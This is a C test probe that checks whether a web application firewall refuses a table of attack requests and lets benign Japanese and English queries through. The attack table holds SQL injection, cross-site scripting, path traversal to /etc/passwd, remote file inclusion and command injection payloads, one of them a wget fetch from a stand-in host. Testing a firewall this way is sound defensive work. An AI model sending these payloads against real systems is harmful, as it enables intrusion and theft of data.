/* GATE-02. Attacks of each kind and place must be refused with a request id that the record
 * explains; benign requests, Japanese ones first, must pass. Only refused requests could do harm,
 * so nothing here reaches the application but the benign ones. */
#include "evidence/probe.h"
#include "evidence/record.h"

struct trial {
    const char *what, *method, *target, *header, *body;
};

#define FORM "Content-Type: application/x-www-form-urlencoded\r\n"
#define JSON "Content-Type: application/json\r\n"
#define PART "Content-Type: multipart/form-data; boundary=sekisho\r\n"

static const struct trial attacks[] = {
    { "SQL injection, query", "GET", "/?q=1%27%20OR%20%271%27=%271%27%20--%20-", "", "" },
    { "SQL injection (UNION), query", "GET",
      "/?id=1%20UNION%20SELECT%20user,password%20FROM%20users", "", "" },
    { "SQL injection, form", "POST", "/", FORM, "name=a&q=%27%3B+DROP+TABLE+orders%3B--" },
    { "SQL injection, JSON", "POST", "/", JSON, "{\"q\":\"1' OR 1=1 -- -\"}" },
    { "SQL injection, cookie", "GET", "/", "Cookie: cart=1' UNION SELECT 1,2,3 -- -\r\n", "" },
    { "SQL injection, multipart", "POST", "/", PART,
      "--sekisho\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n"
      "1' UNION ALL SELECT NULL,version() -- -\r\n--sekisho--\r\n" },
    { "cross-site scripting, query", "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "" },
    { "cross-site scripting (event), form", "POST", "/", FORM,
      "q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E" },
    { "cross-site scripting, Referer", "GET", "/",
      "Referer: https://a.example/?<script>alert(document.cookie)</script>\r\n", "" },
    { "file inclusion", "GET", "/?page=../../../../etc/passwd", "", "" },
    { "file inclusion, encoded", "GET", "/?page=..%252f..%252f..%252fetc%252fpasswd", "", "" },
    { "remote file inclusion", "GET", "/?inc=http://192.0.2.1/shell.txt?", "", "" },
    { "command injection", "GET", "/?host=127.0.0.1;cat%20/etc/passwd", "", "" },
    { "command injection (substitution), form", "POST", "/", FORM,
      "name=$(wget+http://192.0.2.1/x+-O-)" },
    { "PHP injection", "GET", "/?x=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E", "", "" },
    { "Java deserialisation and class access", "POST", "/", FORM,
      "x=java.lang.Runtime.getRuntime().exec" },
    { "session fixation", "GET", "/?x=%3Cscript%3Edocument.cookie%3D%22PHPSESSID%3D1%22", "", "" },
    { "scanner", "GET", "/", "User-Agent: sqlmap/1.7\r\n", "" },
    { "response splitting", "GET", "/?x=a%0d%0aSet-Cookie:%20a=b%0d%0aContent-Length:%200", "",
      "" },
    { "path traversal in the path", "GET", "/s/x/%252e%252e%252f%252e%252e%252fetc%252fpasswd", "",
      "" },
};

static const struct trial benign[] = {
    { "front page", "GET", "/", "", "" },
    { "Japanese search words", "GET", "/?q=%E6%8A%B9%E8%8C%B6%20%E5%92%8C%E8%8F%93%E5%AD%90", "",
      "" },
    { "a place name", "GET", "/?q=%E9%B9%BF%E6%B2%BC%E5%B8%82%E5%BE%A1%E6%88%90%E6%A9%8B", "", "" },
    { "a name and its reading", "GET",
      "/?q=%E9%BD%8B%E8%97%A4%20%E7%B4%94%E4%B8%80%EF%BC%88%E3%82%B5%E3%82%A4%E3%83%88%E3%82%A6%EF%"
      "BC%89",
      "", "" },
    { "an address", "GET",
      "/?q=%E5%A4%A7%E9%98%AA%E5%BA%9C%E5%A4%A7%E9%98%AA%E5%B8%82%E5%8C%97%E5%8C%BA1-2-3", "", "" },
    { "a company", "GET", "/?q=%E6%A0%AA%E5%BC%8F%E4%BC%9A%E7%A4%BE%E6%98%8E%E7%B4%B0", "", "" },
    { "an English phrase with an apostrophe", "GET", "/?q=Mother's%20Day%20gift", "", "" },
};

static sk_err
ask_trial(struct evidence_answer *answer, struct evidence_report *report,
          const struct evidence_instance *instance, const struct trial *trial)
{
    sk_str host = evidence_host(instance);
    sk_str request = evidence_request(report->mem, trial->method, sk_str_of(trial->target), host,
                                      trial->header, sk_str_of(trial->body));
    return evidence_ask(answer, report->mem, instance, host, request);
}

static sk_err
try_attack(struct evidence_report *report, const struct evidence_instance *instance,
           const struct trial *trial)
{
    struct evidence_answer answer;
    TRY(ask_trial(&answer, report, instance, trial));
    sk_str id = evidence_answer_header(&answer, "X-Request-Id");
    if (answer.status != 403)
        evidence_failed(report, "%s: answered %d instead of 403", trial->what, answer.status);
    else if (!id.n)
        evidence_failed(report, "%s: refused, but without a request id", trial->what);
    else if (!evidence_record_explains(instance, id))
        evidence_failed(report, "%s: refused, but the record does not explain %.*s", trial->what,
                        SK_ARG(id));
    else
        evidence_saw(report, "%s refused: %.*s", trial->what, SK_ARG(id));
    return sk_ok();
}

sk_err
evidence_probe_waf(struct evidence_report *report, const struct evidence_instance *instance)
{
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        TRY(try_attack(report, instance, &attacks[i]));
    for (size_t i = 0; i < sizeof benign / sizeof *benign; i++) {
        struct evidence_answer answer;
        TRY(ask_trial(&answer, report, instance, &benign[i]));
        if (answer.status == 0 || answer.status == 403 || answer.status >= 500)
            evidence_failed(report, "%s: a benign request was answered %d", benign[i].what,
                            answer.status);
        else
            evidence_saw(report, "%s passes (%d)", benign[i].what, answer.status);
    }
    return sk_ok();
}
